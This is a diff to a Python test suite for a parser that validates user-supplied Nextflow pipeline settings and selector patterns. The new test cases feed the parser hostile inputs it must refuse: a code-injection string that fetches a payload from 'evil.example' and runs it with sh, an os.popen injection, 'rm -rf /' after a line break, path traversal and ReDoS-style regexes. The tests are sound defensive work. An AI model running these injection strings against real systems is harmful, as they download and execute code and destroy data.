@@ -13,6 +13,7 @@ from services.pipelines.user_config import (
     MAX_PROBLEMS,
     ConfigParam,
     ResourceMaxima,
+    Selector,
     Setting,
     UserConfig,
     parse_user_config,
@@ -58,8 +59,8 @@ def test_the_documented_subset_is_accepted() -> None:
                 cpus = 16
                 memory = 128.GB
                 time = '10h 30m'
-                ext.args = '--outSAMtype BAM SortedByCoordinate --soloFeatures "Gene Velocyto"'
-                ext.prefix = "s1_star"
+                ext.args = '--outSAMtype BAM SortedByCoordinate --soloFeatures Gene Velocyto --x=a,b:c/d@e%f+g'
+                ext.prefix = "s1_star.v2-x"
             }
             withLabel: process_high { cpus = 8 }
             "withName:FASTQC" {
@@ -103,8 +104,8 @@ def test_the_documented_subset_is_accepted() -> None:
         "cpus": 16,
         "memory": "128 GB",
         "time": "10h 30m",
-        "ext.args": '--outSAMtype BAM SortedByCoordinate --soloFeatures "Gene Velocyto"',
-        "ext.prefix": "s1_star",
+        "ext.args": "--outSAMtype BAM SortedByCoordinate --soloFeatures Gene Velocyto --x=a,b:c/d@e%f+g",
+        "ext.prefix": "s1_star.v2-x",
     }
     assert values(config.selectors[2].settings) == {"ext.args": "--quiet", "ext.args2": "-k 1,2", "ext.args3": "--x=y"}
     params = {p.name: p.value for p in config.params}
@@ -250,16 +251,64 @@ def test_the_caps_are_inclusive() -> None:
         ("process.ext.prefix = 'a\\\\b'", 1, 22, "the character `\\`"),
         ("process.ext.args = 'a\\nrm -rf /'", 1, 20, "a line break"),
         ("process.ext.args = 'a\\rb'", 1, 20, "a line break"),
-        ('process.ext.args = "--title \'x"', 1, 20, "leaves a ' quote open"),
-        ("process.ext.args = '--title \"x'", 1, 20, 'leaves a " quote open'),
+        ('process.ext.args = "--title \'x"', 1, 20, "the character `'` (character 9 of the value)"),
+        ("process.ext.args = '--title \"x'", 1, 20, 'the character `"` (character 9 of the value)'),
         ("process.memory = '\u0668 GB'", 1, 18, "memory = "),
         ("process { withName: X { ext.args = 'a\\u0000b' } }", 1, 36, "the character `\\u0000`"),
+        ("process.ext.args = 'a\\tb'", 1, 20, "the character `\\u0009`"),
+        # ext values in nf-core's Python templates ("--id", "${prefix}", / shlex.split("""${args}""")) and bash
+        (
+            "process {\n  withName: 'CELLRANGER_COUNT' {\n"
+            '    ext.prefix = \'x", __import__("os").system("curl -so /tmp/p evil.example/p"),'
+            ' __import__("os").system("sh /tmp/p"), "\'\n  }\n}',
+            3,
+            18,
+            'ext.prefix contains the character `"` (character 2 of the value)',
+        ),
+        ('process.ext.args = \'""" + __import__("os").popen("id").read() + """\'', 1, 20, 'the character `"`'),
+        ("process.ext.args = '--title \"x\"'", 1, 20, 'the character `"`'),  # balanced quotes re-quote in bash
+        ("process.ext.args = \"--title 'x'\"", 1, 20, "the character `'`"),
+        ("process.ext.args = '--x # the rest'", 1, 20, "the character `#`"),  # comments out the module's `\\`
+        ("process.ext.args = '--reads *.fq'", 1, 20, "the character `*`"),
+        ("process.ext.args = '--reads ?.fq'", 1, 20, "the character `?`"),
+        ("process.ext.args = '--reads [ab].fq'", 1, 20, "the character `[`"),
+        ("process.ext.args = '--reads {a,b}.fq'", 1, 20, "the character `{`"),
+        ("process.ext.args2 = '--x (y)'", 1, 21, "the character `(`"),
+        ("process.ext.args3 = '~/x'", 1, 21, "the character `~`"),
+        ("process.ext.args = '!!'", 1, 20, "the character `!`"),
+        ("process.ext.args = '--x ^y'", 1, 20, "the character `^`"),
+        ("process.ext.args = '" + "a" * 4097 + "'", 1, 20, "ext.args of 4097 characters"),
+        ("process.ext.prefix = '../other-run/x'", 1, 22, "ext.prefix contains `..`"),
+        ("process.ext.prefix = 'a..b'", 1, 22, "ext.prefix contains `..`"),
+        ("process.ext.prefix = 'a/b'", 1, 22, "ext.prefix contains the character `/`"),
+        ("process.ext.prefix = '.hidden'", 1, 22, "ext.prefix starts with the character `.`"),
+        ("process.ext.prefix = '-rf'", 1, 22, "ext.prefix starts with the character `-`"),
+        ("process.ext.prefix = 'a b'", 1, 22, "ext.prefix contains the character ` `"),
+        ("process.ext.prefix = ''", 1, 22, "ext.prefix is empty"),
+        ("process.ext.prefix = 'a\\n'", 1, 22, "ext.prefix contains a line break"),
+        ("process.ext.prefix = '" + "a" * 129 + "'", 1, 22, "ext.prefix of 129 characters"),
         # selectors
         ("process { withName: 'A' { withLabel: 'b' { cpus = 1 } } }", 1, 27, "selector inside a selector"),
         ("process { withName: 'a\\u0007b' { cpus = 1 } }", 1, 21, "control character"),
         ("process { withName: '' { cpus = 1 } }", 1, 21, "empty withName: pattern"),
         ("process { withName: 'x' * 2 { cpus = 1 } }", 1, 25, "`*`"),
         ("process { withName: 'x' cpus = 1 }", 1, 25, "`cpus`"),
+        # patterns are Java regexes matched on the orchestrator: no groups, classes or nested quantifiers
+        ("process { withName: '(.*)*X' { cpus = 1 } }", 1, 21, "contains the character `(`"),
+        ("process { withName: '(A|B)' { cpus = 1 } }", 1, 21, "contains the character `(`"),
+        ("process { withLabel: '[a-z]+' { cpus = 1 } }", 1, 22, "contains the character `[`"),
+        ("process { withName: 'A+' { cpus = 1 } }", 1, 21, "contains the character `+`"),
+        ("process { withName: 'A{1000}' { cpus = 1 } }", 1, 21, "contains the character `{`"),
+        ("process { withName: 'A\\\\d' { cpus = 1 } }", 1, 21, "contains the character `\\`"),
+        ("process { withName: 'A B' { cpus = 1 } }", 1, 21, "contains the character ` `"),
+        ("process { withName: '.*.*.*.*X' { cpus = 1 } }", 1, 21, "more than 3 `*` in one alternative"),
+        ("process { withName: '*A' { cpus = 1 } }", 1, 21, "not a valid regular expression"),
+        ("process { withName: 'A**' { cpus = 1 } }", 1, 21, "not a valid regular expression"),
+        ("process { withName: 'A|*' { cpus = 1 } }", 1, 21, "not a valid regular expression"),
+        ("process { withName: 'A!B' { cpus = 1 } }", 1, 21, "`!` after its start"),
+        ("process { withName: '!' { cpus = 1 } }", 1, 21, "only `!`"),
+        ("process { 'withName:(.*)*X' { cpus = 1 } }", 1, 11, "contains the character `(`"),
+        ("process { withName: '" + "A" * 257 + "' { cpus = 1 } }", 1, 21, "of 257 characters"),
         # unterminated things
         ("params.x = 'abc\nparams.y = 1", 1, 12, "never closed"),
         ('params.x = "abc', 1, 12, "never closed"),
@@ -364,21 +413,30 @@ def test_random_input_is_refused_or_accepted_never_crashes() -> None:
 
 def test_the_rendered_settings_parse_back_to_the_same_config() -> None:
     text = (
-        "process { cpus = 2; cpus = 3; ext.args = 'a \"b\"'\n"
+        "process { cpus = 2; cpus = 3; ext.args = 'a b'\n"
         "  withName: 'FOO|BAR' { memory = 8.GB; ext { prefix = 'p' } }\n"
         "  'withLabel:x' { time = '2h'; errorStrategy = 'ignore' } }\n"
     )
     config = ok(text)
     rendered = "\n".join(render_user_settings(config))
     again = ok(rendered)
-    assert values(again.process) == {"cpus": 3, "ext.args": 'a "b"'}  # the last of a name wins
+    assert values(again.process) == {"cpus": 3, "ext.args": "a b"}  # the last of a name wins
     assert [(s.kind, s.pattern, values(s.settings)) for s in again.selectors] == [
         (s.kind, s.pattern, values(s.settings)) for s in config.selectors
     ]
 
 
 def test_a_pattern_renders_as_a_safe_single_quoted_literal() -> None:
-    config = ok('process { withName: "a\'b\\\\c\\$" { cpus = 1 } }')
-    [selector] = config.selectors
-    assert (selector.kind, selector.pattern, values(selector.settings)) == ("withName", "a'b\\c$", {"cpus": 1})
+    # The parser refuses quotes, backslashes and `$` in a pattern; the renderer escapes them all the same.
+    assert refused('process { withName: "a\'b\\\\c\\$" { cpus = 1 } }')
+    config = UserConfig(selectors=(Selector("withName", "a'b\\c$", (Setting("cpus", 1, 1, 1),), 1, 1),))
     assert render_user_settings(config)[1] == "    withName: 'a\\'b\\\\c\\$' {"
+
+
+@pytest.mark.parametrize(
+    "pattern",
+    ["STAR_ALIGN", "!FASTQC", "MTX_TO_H5AD|CONCAT_H5AD", "GUNZIP*", ".*:STAR_ALIGN", "NFCORE_.*:.*:STAR.*", "A-B"],
+)
+def test_the_selector_patterns_nextflow_pipelines_use_are_accepted(pattern: str) -> None:
+    config = ok(f"process {{\n withName: '{pattern}' {{ cpus = 1 }}\n withLabel: '{pattern}' {{ cpus = 2 }}\n}}")
+    assert [(s.kind, s.pattern) for s in config.selectors] == [("withName", pattern), ("withLabel", pattern)]
